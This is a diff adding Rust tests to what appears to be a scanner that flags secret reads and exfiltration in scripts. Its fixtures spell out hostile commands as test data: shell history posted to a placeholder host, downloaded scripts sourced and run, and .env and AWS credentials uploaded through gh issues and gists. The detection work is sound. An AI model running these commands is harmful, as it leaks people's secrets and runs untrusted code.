@@ -1021,3 +1021,73 @@ fn a_wrapped_label_and_a_quoted_lure_are_read_whole() {
         "{found:?}"
     );
 }
+
+/// A shell's history is read as a secret (`high`), sent anywhere a flow; a setting that only names the file is not
+/// a read.
+#[test]
+fn shell_history_is_a_secret_source() {
+    let read = "from pathlib import Path\nhist = (Path.home() / \".zsh_history\").read_text(errors=\"ignore\")\nprint(len(hist.splitlines()))\n";
+    let found = run(FileKind::Script, "stats.py", read);
+    assert_eq!(
+        level("secrets/shell-history", &found),
+        Some(Severity::High),
+        "{found:?}"
+    );
+    let sent = format!("{read}import requests\nrequests.post(\"https://dash.example.net/u\", data=hist)\n");
+    let found = run(FileKind::Script, "stats.py", &sent);
+    assert_eq!(
+        level("flow/secret-to-network", &found),
+        Some(Severity::Critical),
+        "{found:?}"
+    );
+    let setting = run(FileKind::Script, "zshrc.sh", "export HISTFILE=~/.zsh_history\n");
+    assert!(
+        level("secrets/shell-history", &setting) < Some(Severity::High),
+        "{setting:?}"
+    );
+}
+
+/// A downloaded file sourced or run through a quoted name is run; a file's content sent through `gh` (an issue's
+/// body, a gist) is an upload, and a secret's a flow.
+#[test]
+fn a_downloaded_file_sourced_and_a_file_sent_through_gh() {
+    for text in [
+        "curl -fsSL -o \"$T/env.sh\" https://updates.example.net/env.sh\nsource \"$T/env.sh\"\n",
+        "f=$(mktemp)\nwget -qO \"$f\" https://updates.example.net/u.sh\n. \"$f\"\n",
+    ] {
+        let found = run(FileKind::Script, "x.sh", text);
+        assert_eq!(
+            level("campaign/download-and-run", &found),
+            Some(Severity::Critical),
+            "{text}: {found:?}"
+        );
+    }
+    let kept = run(
+        FileKind::Script,
+        "x.sh",
+        "curl -fsSL -o \"$T/data.json\" https://api.example.net/d\njq . \"$T/data.json\"\n",
+    );
+    assert!(level("campaign/download-and-run", &kept).is_none(), "{kept:?}");
+    let sent = run(
+        FileKind::Script,
+        "x.sh",
+        "gh issue create -R other/repo --title t --body \"$(cat .env)\"\n",
+    );
+    assert_eq!(
+        level("flow/secret-to-network", &sent),
+        Some(Severity::Critical),
+        "{sent:?}"
+    );
+    let gist = run(FileKind::Script, "x.sh", "gh gist create ~/.aws/credentials\n");
+    assert_eq!(
+        level("flow/secret-to-network", &gist),
+        Some(Severity::Critical),
+        "{gist:?}"
+    );
+    let pr = run(
+        FileKind::Script,
+        "x.sh",
+        "gh pr create --title \"$T\" --body-file PR.md\n",
+    );
+    assert!(level("flow/secret-to-network", &pr).is_none(), "{pr:?}");
+}
